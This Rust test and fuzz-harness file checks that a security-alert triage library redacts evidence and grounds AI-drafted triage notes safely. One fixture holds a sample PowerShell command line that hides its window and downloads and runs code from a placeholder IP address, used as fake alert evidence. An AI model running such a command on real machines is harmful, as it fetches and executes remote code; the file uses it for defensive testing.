//! What must hold for any bytes at all: for the fuzz targets, the driver that needs no nightly compiler, and a test.

// Each user takes one of the two.
#![allow(dead_code)]

use std::sync::OnceLock;

use triage_core::note::{self, NoteInput, NoteResult};
use triage_core::{About, AlertFields, Draft, Evidence, Meta, Policy, Redacted, Redactor, RedactorSettings, ground};

fn redactor() -> &'static Redactor {
    static REDACTOR: OnceLock<Redactor> = OnceLock::new();
    REDACTOR.get_or_init(|| Redactor::new(RedactorSettings::default()).expect("the defaults are sound"))
}

fn evidence(fields: &[(&str, &str)]) -> Evidence {
    let fields = fields
        .iter()
        .map(|(path, value)| ((*path).to_owned(), (*value).to_owned()));
    Evidence::from_fields(&AlertFields {
        title: "Suspicious process".into(),
        rule_id: Some("92000".into()),
        level: Some(7),
        fields: fields.collect(),
        ..AlertFields::default()
    })
}

/// Redacting ends, changes nothing the second time, leaves nothing for the detector, and sends one harmless line a value.
pub(crate) fn redacted_text(bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let once = redactor().inspect(&text, None);
    assert_eq!(once.residual, None, "{}", once.output);
    assert_eq!(redactor().redact_text(&once.output), once.output);
    let redacted = redactor()
        .redact(evidence(&[("full_log", &text), ("data.command", &text)]))
        .expect("the detector found nothing in the text");
    for fact in &redacted.facts {
        assert!(
            !fact.value.contains("<|") && !fact.value.contains("|>"),
            "{}",
            fact.value
        );
        assert!(fact.value.chars().all(|c| !c.is_control()), "{:?}", fact.value);
    }
    assert_eq!(
        redactor().redact((*redacted).clone()).expect("it is redacted"),
        redacted
    );
}

/// Grounding ends; what it lets through cites what exists, and its note is short, plain and closed by our own lines only.
pub(crate) fn grounded_answer(bytes: &[u8]) {
    static ALERT: OnceLock<Redacted<Evidence>> = OnceLock::new();
    let alert = ALERT.get_or_init(|| {
        let fields = [
            (
                "data.win.eventdata.commandLine",
                r"powershell -w hidden -enc IEX (iwr http://203.0.113.66/a)",
            ),
            ("data.win.eventdata.user", r"CORP\j.doe"),
            ("agent.name", "WS-FIN-042"),
        ];
        redactor().redact(evidence(&fields)).expect("it holds no secret")
    });
    let text = String::from_utf8_lossy(bytes);
    // As it is, and with the bytes as the text of an otherwise good answer.
    let framed = serde_json::json!({
        "evidence": [{ "field": "F02", "shows": text }], "if_benign": text, "if_malicious": text, "mitre": [text],
        "next_steps": [text], "questions": [text], "severity": "low", "summary": text, "verdict": "false_positive",
        "verdict_confidence": "low",
    });
    for answer in [text.into_owned(), framed.to_string()] {
        let outcome = ground(&Draft::new(answer, Meta::default()), alert, &Policy::default());
        let Some(verdict) = outcome.verdict() else { continue };
        assert!(verdict.evidence().iter().all(|cited| alert.fact(cited.fact).is_some()));
        let block = note::render(&NoteInput {
            result: NoteResult::Verdict(verdict),
            evidence: alert,
            meta: &Meta::default(),
            about: &About::new("fuzz", "1"),
            suffix: "9c1f",
            finished_at: "2026-01-20 09:14Z",
            folded: None,
        });
        let note = block.as_str();
        assert!(note.lines().count() <= 25, "{note}");
        assert!(!note.contains(['<', '>', '"', '`']), "{note}");
        assert!(!note.contains("]("), "{note}");
        assert_eq!(note.matches("[ait:").count(), 2, "{note}");
    }
}
